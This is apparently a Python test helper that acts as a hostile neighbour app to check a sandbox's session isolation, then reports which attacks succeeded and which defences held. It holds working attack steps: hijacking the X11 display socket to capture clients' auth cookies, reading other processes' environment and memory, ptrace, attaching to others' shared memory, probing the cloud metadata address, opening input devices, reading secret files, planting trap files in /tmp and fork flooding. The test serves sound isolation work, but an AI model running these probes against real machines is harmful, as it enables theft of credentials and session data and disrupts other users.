"""An app that attacks its neighbour repeatedly for SECONDS. TARGETS in its environment lists the targets. At the end
it writes one line for each success, one for each defence that stopped an attack, the number of attempts, and exits."""
import ctypes, glob, json, os, socket, stat, struct, sys, threading, time

targets = json.loads(os.environ["TARGETS"])
until = time.monotonic() + float(os.environ["SECONDS"])
number = targets["display"]
shared = targets["shared_user"]
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_ssize_t
attempts = 0
got = set()
met = set()


def refused(name, act):
    """act returns a true value if the attack succeeded."""
    global attempts
    attempts += 1
    try:
        if act():
            got.add(name)
    except (OSError, EOFError, ValueError):
        pass


def connects(address, family=socket.AF_UNIX):
    with socket.socket(family) as s:
        s.settimeout(0.3)
        s.connect(address)
    return True


def says(address, words):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(0.3)
        s.connect(address)
        s.sendall(words)
        return len(s.recv(64)) > 0


def wait_for_clients(server):
    """A client that connects here has sent its cookie to the attacker."""
    server.settimeout(0.5)
    while time.monotonic() < until:
        try:
            client, _ = server.accept()
            client.settimeout(0.5)
            got.add("a client of the display, with %d bytes" % len(client.recv(256)))
        except OSError:
            pass


def bind_display():
    s = socket.socket(socket.AF_UNIX)
    try:
        s.bind("\0/tmp/.X11-unix/X%s" % number)
    except OSError:
        met.add("the name of the display is held")
        s.close()
        return False
    # Either this network namespace has no other process, or the neighbour's clients connect here.
    met.add("the name of the display is free here")
    s.listen()
    threading.Thread(target=wait_for_clients, args=(s,), daemon=True).start()
    return True


def bind_every_name_of_the_list():
    with open("/proc/net/unix") as f:
        names = {line.split(" ")[-1].rstrip("\n") for line in f}
    for name in names:
        # Free display names are the subject of another attack (all-names.py).
        if not name.startswith("@") or "X11-unix" in name:
            continue
        with socket.socket(socket.AF_UNIX) as s:
            refused("name " + name, lambda: s.bind("\0" + name[1:]) is None)


def shared_files():
    for place in filter(os.path.isdir, ("/dev/shm", "/dev/mqueue")):
        for name in os.listdir(place):
            path = os.path.join(place, name)
            if os.stat(path).st_uid != os.getuid():
                refused(path, lambda: open(path, "rb").read(1) is not None)


def segments_of_others():
    with open("/proc/sysvipc/shm") as f:
        names, *rows = (line.split() for line in f)
    for row in rows:
        segment = dict(zip(names, row))
        if shared or int(segment["uid"]) != os.getuid():
            number = int(segment["shmid"])
            refused("shared memory of " + segment["uid"], lambda: libc.shmat(number, None, 0) != -1)


def is_mine(pid):
    """If sessions share a user, a variable in the environment identifies the processes of this session."""
    if os.stat("/proc/" + pid).st_uid != os.getuid():
        return False
    mark = "FOOTLIGHT_SESSION=" + os.environ["FOOTLIGHT_SESSION"]
    return not shared or mark in open(f"/proc/{pid}/environ").read()


def traces(pid):
    """Traces from a child that exits at once: a traced process stays stopped after a signal until its tracer ends."""
    child = os.fork()
    if child == 0:
        # PTRACE_SEIZE
        os._exit(0 if libc.ptrace(0x4206, pid, None, None) == 0 else 1)
    return os.waitpid(child, 0)[1] == 0


def processes_of_others():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if is_mine(pid):
                continue
        except OSError:
            continue
        refused("environment of " + pid, lambda: open(f"/proc/{pid}/environ").read())
        refused("descriptors of " + pid, lambda: os.listdir(f"/proc/{pid}/fd"))
        refused("memory of " + pid, lambda: open(f"/proc/{pid}/mem", "rb"))
        refused("signal to " + pid, lambda: os.kill(int(pid), 0) is None)
        refused("ptrace of " + pid, lambda: traces(int(pid)))


def plant():
    """Creates files in shared folders that would disturb an agent that reads them."""
    for index in range(0, 1000, 97):
        for path in (f"/tmp/.X{index}-lock", f"/tmp/.X11-unix/X{index}"):
            for make in (
                lambda: os.mkfifo(path),
                lambda: os.symlink("/dev/zero", path),
                lambda: os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 5)),
                lambda: os.truncate(os.open(path, os.O_CREAT | os.O_WRONLY), 1 << 40),
                lambda: os.mkdir(path),
            ):
                try:
                    make()
                except OSError:
                    continue
                # Without root the app uses the host's /tmp, so the test must remove its files.
                for remove in (os.unlink, os.rmdir):
                    try:
                        remove(path)
                    except OSError:
                        pass
    for act in (
        lambda: os.rename("/tmp/.X11-unix", "/tmp/away"),
        lambda: os.unlink(f"/tmp/.X11-unix/X{number}"),
        lambda: os.rename("/tmp/.X11-unix/X0", f"/tmp/.X11-unix/X{number}"),
    ):
        try:
            act()
        except OSError:
            pass


def greed():
    children = []
    for _ in range(100):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    sys.stdout.write("spew" * 16384 + "\n")
    sys.stdout.flush()


bound = False
while time.monotonic() < until:
    bound = bound or bind_display()
    bind_every_name_of_the_list()
    hello = b"l\0\x0b\0\0\0\0\0\0\0\0\0"
    refused("display, socket file", lambda: says(f"/tmp/.X11-unix/X{number}", hello) and False)
    if not bound:
        refused("display, abstract name", lambda: connects(f"\0/tmp/.X11-unix/X{number}"))
    refused("sound", lambda: connects(targets["sound"]))
    refused("session bus", lambda: says(targets["bus"], b"\0AUTH ANONYMOUS\r\nBEGIN\r\n") and False)
    for port in targets["ports"]:
        try:
            connects(("127.0.0.1", port), socket.AF_INET)
            met.add("loopback is that of the host")
        except OSError:
            met.add("loopback is its own")
    if os.environ["METADATA"] == "closed":
        refused("metadata", lambda: connects(("169.254.169.254", 80), socket.AF_INET))
    for device in glob.glob("/dev/input/*") + ["/dev/uinput"]:
        refused(device, lambda: os.close(os.open(device, os.O_RDONLY | os.O_NONBLOCK)) is None)
    for path in targets["secrets"]:
        refused(path, lambda: open(path, "rb").read(1) is not None)
    shared_files()
    segments_of_others()
    processes_of_others()
    plant()
    greed()

print()
for line in sorted(got):
    print("GOT", line)
for line in sorted(met):
    print("MET", line)
print("attempts", attempts, flush=True)
sys.exit(1)
